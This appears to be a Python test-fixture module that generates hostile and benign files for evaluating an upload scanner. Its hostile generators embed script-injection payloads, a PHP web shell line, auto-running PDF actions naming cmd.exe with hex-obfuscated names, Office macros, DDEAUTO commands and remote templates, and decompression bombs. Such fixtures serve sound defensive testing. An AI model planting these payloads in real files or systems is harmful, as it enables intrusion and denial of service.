"""Hostile files in great variety, and benign ones as offices have them; each seed another."""

import io
import random
import struct
import zlib

import pikepdf

from tests.evaluations import sample_files as sample

CANARY = "fetch('/canary')"
PAGES = (
    "<html><script>{}</script></html>",
    "<!DOCTYPE html><body onload={}>",
    "\n\n  <HTML><img src=x onerror={}>",
    "<script>{}</script>",
    "<iframe src='javascript:{}'>",
)
DRAWINGS = (
    "<svg xmlns='http://www.w3.org/2000/svg' onload={}/>",
    "<?xml version='1.0'?><svg><script>{}</script></svg>",
    "<?xml-stylesheet href='javascript:{}'?><a/>",
    "<!-- a --><svg><foreignObject>{}</foreignObject></svg>",
)
NAMES = (
    "照片.jpg",
    "扫描件.pdf",
    "方案.docx",
    "截图.png",
    "a.jpg.html",
    "x.svg",
    "视频.mp4",
    "a.ofd",
)
WHOLE = (sample.jpeg, sample.png, sample.webp, sample.heic, sample.pdf, sample.docx, sample.mp4)
MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
MACRO_SHEET = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
TEMPLATE = (
    '<Relationships><Relationship Id="r" Type="http://s/attachedTemplate" '
    'Target="https://example.invalid/t.dotm" TargetMode="External"/></Relationships>'
)


def web_page(dice):
    text = dice.choice(PAGES + DRAWINGS).format(CANARY)
    return (
        dice.choice((b"", b"\xef\xbb\xbf", b"\n"))
        + text.encode()
        + dice.randbytes(40).hex().encode()
    )


def picture_with_more(dice):
    """A good picture with a page, a script or a package in it or behind it."""
    whole = dice.choice((sample.jpeg, sample.png, sample.webp))(dice.randrange(9))
    more = dice.choice((*PAGES, "<?php system($_GET[0]); ?>")).format(CANARY).encode()
    if whole.startswith(b"\xff\xd8") and dice.random() < 0.5:
        return whole[:2] + b"\xff\xfe" + struct.pack(">H", len(more) + 2) + more + whole[2:]
    return whole + dice.choice((more, sample.package({"a.html": more})))


def cut_off(dice):
    whole = dice.choice(WHOLE)(dice.randrange(9))
    return whole[: int(len(whole) * dice.uniform(0.2, 0.9))]


def with_action(dice):
    """A PDF in which something would start by itself."""
    act = dice.choice(("JavaScript", "Launch", "SubmitForm", "ImportData"))
    action = pikepdf.Dictionary(S=pikepdf.Name("/" + act), JS=CANARY, F="cmd.exe")
    place = dice.choice(("open", "page", "names", "note", "field"))

    def change(document):
        root, page = document.Root, document.pages[0].obj
        if place == "open":
            root.OpenAction = document.make_indirect(action) if dice.random() < 0.5 else action
        elif place == "page":
            page.AA = pikepdf.Dictionary(O=action)
        elif place == "names":
            tree = pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), action]))
            root.Names = pikepdf.Dictionary(JavaScript=tree)
        elif place == "note":
            note = pikepdf.Dictionary(Subtype=pikepdf.Name.Link, A=action)
            page.Annots = pikepdf.Array([note])
        else:
            field = pikepdf.Dictionary(T="a", AA=pikepdf.Dictionary(K=action))
            root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([field]))

    made = sample.pdf(dice.randrange(9), change=change)
    if dice.random() < 0.5:  # the same, with its objects packed away
        out = io.BytesIO()
        with pikepdf.open(io.BytesIO(made)) as document:
            document.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
        made = out.getvalue()
    return made


def hidden_name(dice):
    """The name of the action spelled in hexadecimal."""
    made = sample.pdf(
        dice.randrange(9),
        change=lambda d: setattr(
            d.Root, "OpenAction", pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=CANARY)
        ),
    )
    return made.replace(b"/JavaScript", b"/J#61v#61Script", 1)


def office(dice):
    """A document with macros, foreign objects, or that fetches something."""
    seed, choice = dice.randrange(9), dice.randrange(7)
    return (
        lambda: sample.docx(seed, main=MACRO),
        lambda: sample.xlsx(seed, main=MACRO_SHEET),
        lambda: sample.docx(seed, more={"word/vbaProject.bin": dice.randbytes(99)}),
        lambda: sample.xlsx(seed, more={"xl/macrosheets/sheet1.xml": "<a/>"}),
        lambda: sample.docx(seed, more={"word/_rels/settings.xml.rels": TEMPLATE}),
        lambda: sample.docx(seed, body="<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>"),
        lambda: sample.docx(
            seed,
            more={"word/embeddings/o.bin": b"a" + "\x01Ole10Native".encode("utf-16-le")},
        ),
    )[choice]()


def program(dice):
    start = dice.choice((b"MZ", b"\x7fELF", b"#!/bin/sh\n", b"Rar!\x1a\x07", b"7z\xbc\xaf'\x1c"))
    return start + dice.randbytes(dice.randrange(100, 2000))


def wrong_magic(dice):
    """The first bytes of a good kind, then anything."""
    start = dice.choice(
        (
            b"\xff\xd8\xff\xe0",
            b"\x89PNG\r\n\x1a\n",
            b"%PDF-1.7\n",
            b"PK\x03\x04",
            b"RIFF\0\0\0\0WEBP",
        )
    )
    return start + dice.randbytes(dice.randrange(200, 3000))


def bomb(dice):
    """A picture that is huge once unpacked, or a document that is."""
    if dice.random() < 0.5:
        return sample.docx(dice.randrange(9), more={"word/media/a.bmp": "0" * 40_000_000})
    side = dice.randrange(8000, 30_000)
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        for kind, body in (
            (b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)),
            (b"IDAT", zlib.compress(bytes(1000))),
            (b"IEND", b""),
        )
    )


def nothing(dice):
    return bytes(dice.choice((0, 1, 7, 5000)))


MAKERS = (
    web_page,
    picture_with_more,
    cut_off,
    with_action,
    hidden_name,
    office,
    program,
    wrong_magic,
    bomb,
    nothing,
)


def hostile(seed):
    """(content, name, kind of attack)."""
    dice = random.Random(f"hostile {seed}")
    maker = MAKERS[seed % len(MAKERS)]
    return maker(dice), dice.choice(NAMES), maker.__name__


def benign(seed):
    """(content, name) of a file as phones, scanners and offices make them."""
    dice = random.Random(f"benign {seed}")
    name = list(sample.BENIGN)[seed % len(sample.BENIGN)]
    if name.endswith("jpg"):
        size = dice.choice(((320, 240), (1280, 960), (2560, 1920)))
        return _phone(sample.jpeg(seed, size, taken="2026:05:01 10:00:00"), dice), name
    if name.endswith("pdf"):
        return sample.pdf(seed, pages=dice.randrange(1, 9)), name
    return sample.BENIGN[name](seed), name


def _phone(photo, dice):
    """Some phones add a short film or a second picture behind the first."""
    return photo + dice.choice((b"", b"\0" * 64, sample.mp4(1), sample.jpeg(2)))
